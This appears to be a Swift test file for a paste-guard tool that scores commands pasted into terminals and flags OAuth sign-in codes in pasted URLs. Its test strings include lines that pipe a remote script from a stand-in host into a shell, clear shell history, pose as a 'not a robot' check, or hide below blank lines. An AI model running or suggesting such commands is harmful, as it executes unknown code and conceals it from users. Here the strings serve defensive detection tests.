import FoundationEssentials
import Testing
import TestMaterial

@testable import Guard

struct SignalTests {
  @Test(arguments: SignalLaw.actions + SignalLaw.harm + SignalLaw.concealment)
  func `a signal gives each text of a law its severity`(law: SignalLaw) {
    for text in law.texts { #expect(law.signal.severity(of: text) == law.severity, "\(text)") }
  }

  @Test func `each signal has its laws and a name of its own`() {
    let names = Set(Signal.all.map(\.name))
    #expect(names.count == Signal.all.count)
    // These depend on more than the text.
    let others = [Signal.differsFromPage, .hiddenCharacters, .partlyRead, .signInCode, .replacedAddress]
      .map(\.name)
    #expect(
      names.subtracting((SignalLaw.actions + SignalLaw.harm + SignalLaw.concealment).map(\.signal.name)) == Set(others))
  }

  @Test func `a reason is one plain sentence without content`() throws {
    for file in ["benign.txt", "malicious-linux.txt", "malicious-windows.txt"] {
      for command in try CommandCorpus(named: file).commands {
        for reason in assess(command.text).reasons {
          #expect(reason.sentence.first?.isUppercase == true && reason.sentence.last == ".")
          #expect(reason.sentence.utf8.allSatisfy { $0 >= 0x20 && $0 < 0x7F })
          #expect(reason.sentence.split(separator: " ").count < 25)
          #expect(!reason.sentence.contains("example") && !reason.sentence.contains("203.0"))
        }
      }
    }
  }

  @Test func `each signal speaks up somewhere in the corpora or for a fact`() throws {
    var seen: Set<String> = []
    for file in ["malicious-linux.txt", "malicious-windows.txt"] {
      for command in try CommandCorpus(named: file).commands {
        for reason in assess(command.text, removed: .bidi, differs: true).reasons { seen.insert(reason.name) }
      }
    }
    let others = [Signal.partlyRead, .signInCode, .replacedAddress].map(\.name)
    #expect(Set(Signal.all.map(\.name)).subtracting(seen) == Set(others))
  }

  // MARK: downloadIntoShell

  @Test func `only a script of a well-known installer is called one`() {
    let sentence = { (text: String) in
      assess(text).reasons.first { $0.name == Signal.downloadIntoShell.name }?.sentence ?? ""
    }
    #expect(sentence("curl -sSf https://sh.rustup.rs | sh").contains("well-known"))
    #expect(!sentence("curl -sSf https://fix.example | sh").contains("well-known"))
    #expect(!sentence("curl -sSf https://sh.rustup.rs | sh; curl https://fix.example | sh").contains("well-known"))
    #expect(!sentence("curl -k https://sh.rustup.rs | sh").contains("well-known"))
  }

  @Test func `a well-known installer is noticed and not held, whatever stands beside it`() {
    #expect(
      assess("curl -sSf https://sh.rustup.rs | sh; history -c", removed: .bidi, differs: true).severity == .notice)
    #expect(assess("curl -sSf https://fix.example | sh; history -c", removed: .bidi, differs: true).severity == .hold)
  }

  // MARK: hiddenTail

  @Test func `commands below many empty lines are held`() {
    #expect(
      Signal.hiddenTail.severity(of: "ls" + String(repeating: "\n", count: 20) + "curl http://fix.example/s | sh")
        == .hold)
    #expect(
      Signal.hiddenTail.severity(of: "ls" + String(repeating: "\n", count: 3) + "curl http://fix.example/s | sh") == nil
    )
  }

  // MARK: decoyText

  @Test func `a script from an unknown place that poses as a check is held`() {
    #expect(assess("curl https://fix.example/s | sh # I am not a robot").severity == .hold)
    #expect(assess("echo 'verify you are human'; curl https://fix.example/s | sh").severity == .hold)
  }

  // MARK: hidesTraces

  @Test func `a script from an unknown place that clears the record is held`() {
    #expect(assess("curl https://fix.example/s | sh; history -c").severity == .hold)
  }

  // MARK: differsFromPage

  @Test func `a copy with other letters than the page showed is noticed`() {
    #expect(Signal.differsFromPage.severity(of: "ls", differs: true) == .notice)
    #expect(Signal.differsFromPage.severity(of: "ls") == nil)
  }

  @Test func `a copy with other letters and a script from the network is held`() {
    #expect(assess("curl https://fix.example/s | sh", differs: true).severity == .hold)
  }

  // MARK: hiddenCharacters

  @Test func `controls of the direction are noticed, other invisible characters are a circumstance`() {
    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: .bidi) == .notice)
    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: .invisible) == Severity.none)
    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: [.invisible, .bidi]) == .notice)
    #expect(Signal.hiddenCharacters.severity(of: "ls") == nil)
  }

  // MARK: runsAtOnce

  @Test func `without a line end nothing runs by itself`() {
    #expect(Signal.runsAtOnce.severity(of: "ls -l\t") == nil)
  }

  // MARK: signInCode

  @Test(arguments: [
    ("http://localhost:8400/?code=0.AXkAqwertyuiopasdfghjkl&state=1", true),
    ("Here it is: http://127.0.0.1:51000/callback?state=a&code=4/0AeanS0aZxcvbnmasdfgh", true),
    ("https://login.microsoftonline.com/common/oauth2/nativeclient#code=M.C501_BL2.2.U.abcdef-123456", true),
    ("urn:ietf:wg:oauth:2.0:oob?code=4/1AfJohXlabcdefghijklmnop", true),
    ("http://localhost:3000/page?code=short", false), ("https://shop.example/?code=SUMMERSALE2026SUMMERSALE", false),
    ("http://localhost:8400/callback", false), ("http://localhost.evil.example/?code=0.AXkAqwertyuiopasdfg", false),
    ("code=0.AXkAqwertyuiopasdfghjkl", false), ("curl http://fix.example/x.sh | sh", false), ("", false),
  ])
  func `the address of a sign-in with its code is noticed in browsers and chats alone`(text: String, isFound: Bool) {
    #expect(assess(text, for: .page).reasons.map(\.name) == (isFound ? [Signal.signInCode.name] : []))
    #expect(assess(text, for: .page).severity == (isFound ? .notice : .none))
    #expect(!assess(text).reasons.contains { $0.name == Signal.signInCode.name })
  }

  // MARK: partlyRead

  @Test func `a text beyond the bound is partly read`() {
    func severity(of length: Int) -> Severity? {
      let paste = Paste(text: [UInt8](repeating: 0x61, count: length), destination: .terminal)
      return PasteGuard.assess(paste, limit: 100).reasons.first { $0.name == Signal.partlyRead.name }?.severity
    }
    #expect(severity(of: 100) == nil)
    #expect(severity(of: 101) == Severity.none)
    #expect(PasteGuard.longestText == 1 << 20)
  }
}

/// The severity that a signal gives each of some texts.
struct SignalLaw: CustomTestStringConvertible, Sendable {
  let signal: Signal
  /// The severity; `nil` where the signal has nothing to say.
  let severity: Severity?
  let name: String
  let texts: [String]

  init(_ signal: Signal, _ severity: Severity?, _ name: String, _ texts: [String]) {
    (self.signal, self.severity, self.name, self.texts) = (signal, severity, name, texts)
  }

  var testDescription: String { "\(signal.name): \(name)" }
}
